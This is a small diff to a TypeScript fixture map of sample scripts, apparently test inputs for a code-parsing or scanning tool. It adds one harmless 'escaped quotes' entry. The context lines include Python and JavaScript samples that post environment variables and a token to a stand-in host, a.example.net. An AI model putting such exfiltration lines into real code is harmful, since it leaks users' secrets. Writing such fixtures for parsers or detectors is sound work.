@@ -89,6 +89,7 @@ export const SHAPES: Readonly<Record<string, Shape>> = {
     'py',
     'import os, requests\nrequests.post("https://a.example.net", data=os.environ)\n',
   ),
+  'escaped quotes': script('rb', '\\"'),
   'python brackets': script('py', 'f([{'),
   'python blocks': script('py', 'if os.environ:\n  requests.post(a)\n'),
   'javascript script': script('js', 'fetch("https://a.example.net", { body: process.env.TOKEN });\n'),
